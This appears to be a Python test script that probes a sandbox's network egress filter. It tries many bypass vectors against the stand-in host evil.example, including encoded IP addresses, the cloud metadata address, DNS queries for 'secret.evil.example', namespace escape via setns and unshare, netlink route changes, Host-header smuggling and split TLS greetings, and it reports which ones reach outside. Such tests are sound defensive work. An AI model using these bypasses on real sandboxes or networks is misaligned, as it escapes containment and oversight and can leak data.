# SPDX-License-Identifier: Apache-2.0
"""Attempts of tests/net/vectors, inside of a box: prints NAME, a tab, the outcome.

The outcome is "reached" if a server outside has answered, "refused" if a
connection was made and nothing of a server came, else the name of the error.
"""

import ctypes
import errno
import os
import socket
import ssl
import struct
import sys

HOST = b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
ALLOWED, FORBIDDEN = b"www.example.com", b"evil.example"
PATIENCE = 20
LIBC = ctypes.CDLL(None, use_errno=True)


def outcome(sock, data):
    try:
        sock.settimeout(PATIENCE)
        if data:
            sock.sendall(data)
        got = b""
        while part := sock.recv(4096):
            got += part
            if b"you asked" in got:
                return "reached"
    except (TimeoutError, ConnectionError, BrokenPipeError):
        pass
    return "reached" if b"you asked" in got else "refused"


def dial(host, port=80, data=HOST % FORBIDDEN, family=0, proto=0):
    for found in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        sock = socket.socket(found[0], socket.SOCK_STREAM, proto)
        sock.settimeout(PATIENCE)
        sock.connect(found[4])
        return outcome(sock, data)
    return "none"


def made(family, kind, proto=0):
    socket.socket(family, kind, proto).close()
    return "made"


def datagram(host, port, data=b"x", family=socket.AF_INET, proto=0):
    sock = socket.socket(family, socket.SOCK_DGRAM, proto)
    sock.settimeout(1)
    sock.connect((host, port))
    sock.send(data)
    try:
        return "answered" if sock.recv(2000) else "empty"
    except TimeoutError:
        return "silent"


def option(level, name, value):
    socket.socket(socket.AF_INET, socket.SOCK_STREAM).setsockopt(level, name, value)
    return "set"


def question(name, server, kind=1):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(5)
    sock.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1), (server, 53))
    got = sock.recv(2000)
    if got[7] == 0:
        return f"code{got[3] & 15}"
    return ".".join(str(byte) for byte in got[-4:-2])


def netlink(proto, kind, body):
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)
    sock.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    answer = sock.recv(4096)
    code = -struct.unpack("=i", answer[16:20])[0]
    return errno.errorcode.get(code, "done")


def greeting(name, pieces=0, context_options=0):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.options |= context_options
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    inner = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        inner.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    sock = socket.create_connection((ALLOWED.decode(), 443))
    sock.settimeout(PATIENCE)
    try:
        for at in range(0, len(hello), pieces or len(hello)):
            sock.sendall(hello[at:at + (pieces or len(hello))])
        answer = sock.recv(5)
    except ConnectionError:
        return "refused"
    return "reached" if answer[:1] == b"\x16" else "refused"


def bound():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("203.0.113.77", 0))
    sock.connect(("203.0.113.10", 80))
    return outcome(sock, HOST % FORBIDDEN)


def fast_open():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.sendto(HOST % FORBIDDEN, 0x20000000, ("203.0.113.10", 80))
    return outcome(sock, b"")


def unshared():
    if LIBC.unshare(0x10000000 | 0x40000000) < 0:
        raise OSError(ctypes.get_errno(), "")
    return dial("203.0.113.10")


def entered(path):
    fd = os.open(path, os.O_RDONLY)
    if LIBC.setns(fd, 0x40000000) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "entered"


def ring():
    if LIBC.syscall(425, 8, ctypes.create_string_buffer(120)) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "made"


def abstract(name):
    sock = socket.socket(socket.AF_UNIX)
    sock.connect("\0" + name)
    return "reached"


def urgent(text):
    """The first byte out of band, the others behind it, in pieces."""
    sock = socket.create_connection((ALLOWED.decode(), 80))
    sock.send(text[:1], socket.MSG_OOB)
    for i in range(0, len(text), 7):
        sock.send(text[i:i + 7], socket.MSG_OOB if i % 2 else 0)
    return outcome(sock, b"")


def request(text, port=80):
    return dial(ALLOWED.decode(), port, text)


def odd_request(text):
    """Also reached if the server has answered that it does not know the method."""
    sock = socket.create_connection((ALLOWED.decode(), 80))
    sock.settimeout(PATIENCE)
    try:
        sock.sendall(text)
        answer = sock.recv(4096)
    except ConnectionError:
        return "refused"
    return "reached" if answer and b" 403 " not in answer[:16] else "refused"


V4, V6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
LO = struct.pack("=BBBBI", V4, 32, 0x80, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton("203.0.113.10"))
ATTEMPTS = {
    "bluetooth": lambda: made(31, UDP),
    "rds": lambda: made(21, socket.SOCK_SEQPACKET),
    "smc": lambda: made(43, TCP),
    "tipc": lambda: made(30, UDP),
    "xdp": lambda: made(44, socket.SOCK_RAW),
    "host-urgent": lambda: urgent(HOST % FORBIDDEN),
    "literal": lambda: dial("203.0.113.10"),
    "literal6": lambda: dial("2001:db8::10"),
    "mapped": lambda: dial("::ffff:203.0.113.10", family=V6),
    "decimal": lambda: dial("3405803786"),
    "hexadecimal": lambda: dial("0xcb00710a"),
    "octal": lambda: dial("0313.0.0161.012"),
    "short": lambda: dial("203.28938"),
    "nat64": lambda: dial("64:ff9b::cb00:710a"),
    "6to4": lambda: dial("2002:cb00:710a::1"),
    "teredo": lambda: dial("2001:0:cb00:710a::1"),
    "compatible": lambda: dial("::203.0.113.10"),
    "any": lambda: dial("0.0.0.0", 5432),
    "loopback": lambda: dial("127.0.0.1", 5432),
    "loopback6": lambda: dial("::1", 5432),
    "loopback-other": lambda: dial("127.9.9.9", 5432),
    "own": lambda: dial("198.18.0.1", 5432),
    "own6": lambda: dial("fd68:6264:6b00::1", 5432),
    "localhost": lambda: dial("localhost", 5432),
    "below-localhost": lambda: dial("a.localhost", 5432),
    "private": lambda: dial("10.0.0.5"),
    "metadata": lambda: dial("169.254.169.254"),
    "link-local": lambda: dial("fe80::1%lo"),
    "unassigned": lambda: dial("198.18.40.40"),
    "unassigned-other": lambda: dial("198.19.9.9"),
    "unassigned6": lambda: dial("fd68:6264:6b00::c612:2828"),
    "relay-port": lambda: dial("127.0.0.1", 1),
    "relay-port6": lambda: dial("::1", 1),
    "mint": lambda: dial("::1", 2),
    "stub-stream": lambda: dial("127.0.0.1", 53),
    "name": lambda: dial("evil.example"),
    "name-tls": lambda: dial("evil.example", 443),
    "name-port": lambda: dial("www.example.com", 9),
    "rebinding": lambda: dial("rebind.example.com"),
    "udp": lambda: datagram("203.0.113.10", 9999),
    "udp-quic": lambda: datagram("203.0.113.10", 443),
    "udp6": lambda: datagram("2001:db8::10", 443, family=V6),
    "udp-lite": lambda: datagram("203.0.113.10", 9999, proto=136),
    "multicast": lambda: datagram("224.0.0.251", 5353),
    "resolver": lambda: question(b"evil.example", "203.0.113.53"),
    "resolver-txt": lambda: question(b"secret.evil.example", "203.0.113.53", 16),
    "resolver-single": lambda: question(b"secret", "127.0.0.1"),
    "raw": lambda: made(V4, socket.SOCK_RAW, 1),
    "raw6": lambda: made(V6, socket.SOCK_RAW, 58),
    "packet": lambda: made(17, socket.SOCK_RAW, 0x300),
    "ping": lambda: made(V4, UDP, 1),
    "sctp": lambda: made(V4, TCP, 132),
    "dccp": lambda: made(V4, 6, 33),
    "vsock": lambda: made(40, TCP),
    "mptcp": lambda: dial("203.0.113.10", proto=262),
    "fast-open": fast_open,
    "bound": bound,
    "transparent": lambda: option(0, 19, 1),
    "mark": lambda: option(1, 36, 1),
    "device": lambda: option(1, 25, b"eth0"),
    "link-down": lambda: netlink(0, 16, struct.pack("=BBHiII", 0, 0, 0, 1, 0, 1)),
    "address": lambda: netlink(0, 20, LO),
    "route": lambda: netlink(0, 25, struct.pack("=BBBBBBBBI", V4, 0, 0, 0, 255, 4, 254, 2, 0)),
    "tables": lambda: netlink(12, 10 << 8 | 2, struct.pack("=BBH", 1, 0, 0) + struct.pack("=HH9s3x", 13, 1, b"holdback\0")),
    "namespace": lambda: entered("/proc/1/ns/net"),
    "new-namespace": unshared,
    "ring": ring,
    "abstract": lambda: abstract(sys.argv[1]),
    "host": lambda: request(HOST % FORBIDDEN),
    "host-twice": lambda: request(b"GET / HTTP/1.1\r\nHost: www.example.com\r\nHost: evil.example\r\n\r\n"),
    "host-folded": lambda: request(b"GET / HTTP/1.1\r\nA: b\r\n Host: evil.example\r\nHost: www.example.com\r\n\r\n"),
    "host-blank": lambda: request(b"GET / HTTP/1.1\r\nHost : evil.example\r\nHost: www.example.com\r\n\r\n"),
    "host-line-feed": lambda: request(b"GET / HTTP/1.1\nHost: evil.example\r\nHost: www.example.com\r\n\r\n"),
    "host-none": lambda: request(b"GET / HTTP/1.0\r\n\r\n"),
    "host-login": lambda: request(b"GET / HTTP/1.1\r\nHost: www.example.com:80@evil.example\r\n\r\n"),
    "no-version": lambda: request(b"GET http://evil.example/\r\n"),
    "leading-blank": lambda: odd_request(b" " + HOST % FORBIDDEN),
    "lower-case-method": lambda: odd_request((HOST % FORBIDDEN).replace(b"GET", b"get")),
    "long-method": lambda: odd_request((HOST % FORBIDDEN).replace(b"GET", b"A" * 33)),
    "http2": lambda: odd_request(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "no-http-on-80": lambda: odd_request(b"GET\0/\r\n\r\n"),
    "absolute": lambda: request(b"GET http://evil.example/ HTTP/1.1\r\nHost: www.example.com\r\n\r\n"),
    "empty-lines": lambda: request(b"\r\n\r\n" + HOST % FORBIDDEN),
    "made-up-method": lambda: request((HOST % FORBIDDEN).replace(b"GET", b"FETCH")),
    "tunnel": lambda: request(b"CONNECT evil.example:80 HTTP/1.1\r\nHost: www.example.com\r\n\r\n"),
    "plain-on-443": lambda: request(HOST % ALLOWED, 443),
    "server-name": lambda: greeting("evil.example"),
    "server-name-none": lambda: greeting(None),
    "server-name-pieces": lambda: greeting("evil.example", 7),
    # The controls: these are allowed.
    "control": lambda: request(HOST % ALLOWED),
    "control-tls": lambda: greeting("www.example.com"),
    "control-pieces": lambda: greeting("www.example.com", 40),
}


def main():
    for name, attempt in ATTEMPTS.items():
        try:
            found = attempt()
        except socket.gaierror:
            found = "no-name"
        except TimeoutError:
            found = "silent"
        except OSError as error:
            found = errno.errorcode.get(error.errno, str(error))
        print(f"{name}\t{found}", flush=True)


main()
